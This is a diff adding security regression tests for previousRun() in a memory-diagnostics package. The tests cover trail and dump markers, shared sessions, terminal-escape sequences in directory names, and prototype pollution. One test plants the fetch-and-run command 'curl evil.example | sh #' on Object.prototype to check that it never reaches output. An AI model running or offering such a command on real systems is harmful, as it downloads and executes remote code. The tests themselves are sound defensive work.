@@ -396,7 +396,7 @@ describe('previousRun(): what an outside hostile pass found (issue 37)', () => {
   it('the bundle command runs as printed: the home directory as a leading ~ only, quoted parts, no raw terminal controls', () => {
     const base = scratch('prev-home')
     const home = join(base, 'home', 'me')
-    const cases = [join(home, 'my diag'), join(base, 'me', 'diag'), join(base, 'esc\u001b]0;pwned\u0007', 'diag')]
+    const cases = [join(home, 'my diag'), join(base, 'me', 'diag'), join(base, 'esc\u001b]0;pwned\u0007', 'diag'), join(home, 'red\u001b[31m', 'diag')]
     for (const dir of cases) {
       mkdirSync(dir, { recursive: true })
       fakeTrail(dir, 'recorder-x-424243-aa.jsonl', { pid: 424243 })
@@ -405,6 +405,11 @@ describe('previousRun(): what an outside hostile pass found (issue 37)', () => {
       expect(a.line).not.toMatch(/[\u0000-\u001f]/)
       if (dir.includes('\u001b')) {
         expect(a.bundleCommand).toContain('\\u001b')
+        // Under the home directory, it is `~` still: the escaping never brings the home back.
+        if (dir.startsWith(home)) {
+          expect(a.bundleCommand).toMatch(/ bundle ~\/red\\u001b\[31m\/diag --pid 424243$/)
+          expect(a.line).not.toContain(home)
+        }
         continue
       }
       expect(a.bundleCommand).toBe(`npx memory-diagnostics-dumper bundle ${dir.startsWith(home) ? "~/'my diag'" : dir} --pid 424243`)
@@ -421,9 +426,11 @@ describe('previousRun(): what an outside hostile pass found (issue 37)', () => {
     const dir = scratch('prev-trails')
     const now = Date.now()
     fakeTrail(dir, 'recorder-app2-777-aa.jsonl', { pid: 777_001, sessionId: 'app2', epochMs: now - 5000 })
+    // A trail without a start record (torn, or empty) cannot be told: passed by, never claimed.
     writeFileSync(join(dir, 'recorder-app-778-bb.jsonl'), 'not json\n')
-    expect(previousRun({ directory: dir, sessionId: 'app' })).toMatchObject({ pid: null })
     expect(previousRun({ directory: dir, sessionId: 'app' })).toBeNull()
+    expect(existsSync(join(dir, 'recorder-app-778-bb.jsonl.reported'))).toBe(false)
+    expect(previousRun({ directory: dir, sessionId: 'app2' })).toMatchObject({ pid: 777_001 })
     const many = scratch('prev-300')
     for (let i = 0; i < 300; i++) {
       const f = `recorder-s${i}-${800_000 + i}-cc.jsonl`
@@ -437,5 +444,151 @@ describe('previousRun(): what an outside hostile pass found (issue 37)', () => {
     writeFileSync(secret, `${JSON.stringify({ type: 'start', epochMs: Date.now(), pid: 999_998 })}\n`)
     spawnSync('ln', [secret, join(linked, 'recorder-ln-999998-dd.jsonl')])
     expect(previousRun({ directory: linked })).toBeNull()
+  })
+})
+
+/** A dump as a writer names and writes it, with the fields the next start reads. */
+function fakeDump(dir: string, session: string, epochMs: number, n: number, fields: Record<string, unknown>) {
+  const name = `memory-${session}-${new Date(epochMs).toISOString().replace(/[:.]/g, '-')}-${n}.json`
+  const doc = { schemaVersion: 1, trigger: 'hard', dumpNumber: n, timestamp: new Date(epochMs).toISOString(), sessionId: session, ...fields }
+  writeFileSync(join(dir, name), JSON.stringify(doc))
+  return name
+}
+
+describe('previousRun(): what a second outside pass found (issue 37)', () => {
+  const ago = (ms: number) => Date.now() - ms
+
+  it('a process answered by its trail is never told again from its dumps, its trail removed by retention or not', () => {
+    const dir = scratch('prev-trail-gone')
+    const t0 = ago(120_000)
+    const trail = 'recorder-app-4100001-aa.jsonl'
+    fakeTrail(dir, trail, { pid: 4_100_001, processStartMs: t0 - 1000, sessionId: 'app', epochMs: t0 })
+    const dumps = [1, 2, 3].map((n) => fakeDump(dir, 'app', t0 + n * 700, n, { pid: 4_100_001, processStartMs: t0 - 1000 }))
+    expect(previousRun({ directory: dir })).toMatchObject({ pid: 4_100_001, trail: true, died: true })
+    // Its process is marked, and the dumps it read.
+    const names = readdirSync(dir)
+    expect(names).toContain(`memory-app-pid4100001-start${t0 - 1000}.reported`)
+    expect(names).toContain(`${dumps[0]}.reported`)
+    expect(names).toContain(`${dumps[2]}.reported`)
+    rmSync(join(dir, trail))
+    expect(previousRun({ directory: dir })).toBeNull()
+    // The dump it had not read is marked now, found answered by its process's marker.
+    expect(readdirSync(dir)).toContain(`${dumps[1]}.reported`)
+    expect(previousRun({ directory: dir })).toBeNull()
+  })
+
+  it("another process's answered trail in a shared session hides nothing: a trail-less process's dumps are still told", () => {
+    const dir = scratch('prev-shared-session')
+    const t0 = ago(300_000)
+    fakeTrail(dir, 'recorder-nosessn-4100011-aa.jsonl', { pid: 4_100_011, processStartMs: t0 - 500, sessionId: '', epochMs: t0 })
+    expect(previousRun({ directory: dir })).toMatchObject({ pid: 4_100_011, trail: true })
+    expect(previousRun({ directory: dir })).toBeNull()
+    // A process on the JS fallback of the same (default) session, later, no trail.
+    fakeDump(dir, 'nosessn', ago(60_000), 1, { pid: 4_100_012, processStartMs: ago(70_000), process: { uptimeSeconds: 10 } })
+    const a = previousRun({ directory: dir })
+    expect(a).toMatchObject({ pid: 4_100_012, trail: false })
+    expect(a.bundleCommand).toMatch(/ --pid 4100012@\d+$/)
+    expect(previousRun({ directory: dir })).toBeNull()
+  })
+
+  it('an empty trail (a writer that gave its name up) takes no dumps: the process that wrote them is told by its own pid', () => {
+    const dir = scratch('prev-empty-trail')
+    writeFileSync(join(dir, 'recorder-demosess-999-x.jsonl'), '')
+    const start = ago(11 * 86_400_000)
+    fakeDump(dir, 'demosess', start + 5000, 1, { pid: 4_100_021, processStartMs: start })
+    const a = previousRun({ directory: dir })
+    expect(a).toMatchObject({ pid: 4_100_021, trail: false, files: [expect.stringMatching(/^memory-demosess-/)] })
+    expect(a.bundleCommand).toMatch(new RegExp(` --pid 4100021@${start}$`))
+    expect(existsSync(join(dir, 'recorder-demosess-999-x.jsonl.reported'))).toBe(false)
+    expect(previousRun({ directory: dir })).toBeNull()
+  })
+
+  it('a trail-less answer marks only the dumps it read as its own: a running neighbour of the session is told when it ends', async () => {
+    const dir = scratch('prev-neighbour')
+    const { startMsOf } = require('../lib/rules/process-start.js')
+    const b = spawn('sleep', ['60'], { stdio: 'ignore' })
+    try {
+      let bStart: number | null = null
+      for (let i = 0; i < 100 && bStart == null; i++) {
+        bStart = startMsOf(b.pid)
+        if (bStart == null) await new Promise((r) => setTimeout(r, 10))
+      }
+      if (bStart == null) {
+        console.log('skipped the neighbour test: procfs does not give the process start here')
+        return
+      }
+      const aStart = ago(600_000)
+      fakeDump(dir, 'shared', ago(300_000), 1, { pid: 4_100_031, processStartMs: aStart })
+      // The neighbour's dump lies between the ended process's two, unread by its answer.
+      const bDump = fakeDump(dir, 'shared', ago(200_000), 1, { pid: b.pid, processStartMs: bStart })
+      fakeDump(dir, 'shared', ago(100_000), 2, { pid: 4_100_031, processStartMs: aStart })
+      expect(previousRun({ directory: dir })).toMatchObject({ pid: 4_100_031, trail: false })
+      expect(existsSync(join(dir, `${bDump}.reported`))).toBe(false)
+      // Still running: nothing to tell.
+      expect(previousRun({ directory: dir })).toBeNull()
+    } finally {
+      b.kill('SIGKILL')
+    }
+    await new Promise((r) => b.once('exit', r))
+    expect(previousRun({ directory: dir })).toMatchObject({ pid: b.pid, trail: false })
+    expect(previousRun({ directory: dir })).toBeNull()
+  })
+
+  it("a process marker goes once no dump from its process's start to its making is left, whoever else writes to the session", () => {
+    const dir = scratch('prev-marker-sweep')
+    const hourAgo = new Date(ago(3_600_000))
+    const stale = `memory-shared-pid4100041-start${ago(3_700_000)}.reported`
+    writeFileSync(join(dir, stale), '')
+    utimesSync(join(dir, stale), hourAgo, hourAgo)
+    // A process whose dump is still here keeps its marker.
+    const keptStart = ago(3_800_000)
+    const kept = `memory-shared-pid4100042-start${keptStart}.reported`
+    writeFileSync(join(dir, kept), '')
+    utimesSync(join(dir, kept), hourAgo, hourAgo)
+    const keptDump = fakeDump(dir, 'shared', keptStart + 1000, 1, { pid: 4_100_042, processStartMs: keptStart })
+    writeFileSync(join(dir, `${keptDump}.reported`), '')
+    // Newer dumps of the session, of other processes (answered already).
+    for (let n = 1; n <= 3; n++) writeFileSync(join(dir, `${fakeDump(dir, 'shared', ago(n * 1000), n, { pid: 4_100_050 + n })}.reported`), '')
+    expect(previousRun({ directory: dir })).toBeNull()
+    const names = readdirSync(dir)
+    expect(names).not.toContain(stale)
+    expect(names).toContain(kept)
+  })
+
+  it('telemetry is checked before anything is claimed: a bad one is a problem naming its field, and the death is still told', () => {
+    const dir = scratch('prev-telemetry-first')
+    fakeTrail(dir, 'recorder-tel-4100061-aa.jsonl', { pid: 4_100_061, sessionId: 'tel' })
+    expect(previousRun({ directory: dir, telemetry: 42 })).toMatchObject({
+      problem: expect.stringMatching(/^options\.telemetry: expected an object/),
+      line: null,
+    })
+    const throwing = {
+      logger: {
+        get emit() {
+          throw new Error('secret-canary')
+        },
+      },
+    }
+    const r = previousRun({ directory: dir, telemetry: throwing })
+    expect(r.problem).toBe('options.telemetry.logger.emit: reading it threw (an Error)')
+    expect(readdirSync(dir).filter((f) => f.endsWith('.reported'))).toEqual([])
+    expect(previousRun({ directory: dir })).toMatchObject({ pid: 4_100_061, died: true })
+  })
+
+  it('a polluted Object.prototype is never an option: its bundleCommand never reaches the line', () => {
+    const dir = scratch('prev-proto')
+    fakeTrail(dir, 'recorder-proto-4100071-aa.jsonl', { pid: 4_100_071 })
+    const proto = Object.prototype as any
+    proto.bundleCommand = 'curl evil.example | sh #'
+    proto.sessionId = 'nothing'
+    try {
+      const a = previousRun({ directory: dir })
+      expect(a).toMatchObject({ pid: 4_100_071 })
+      expect(a.line).not.toContain('evil')
+      expect(a.bundleCommand).toMatch(/^npx memory-diagnostics-dumper bundle /)
+    } finally {
+      delete proto.bundleCommand
+      delete proto.sessionId
+    }
   })
 })
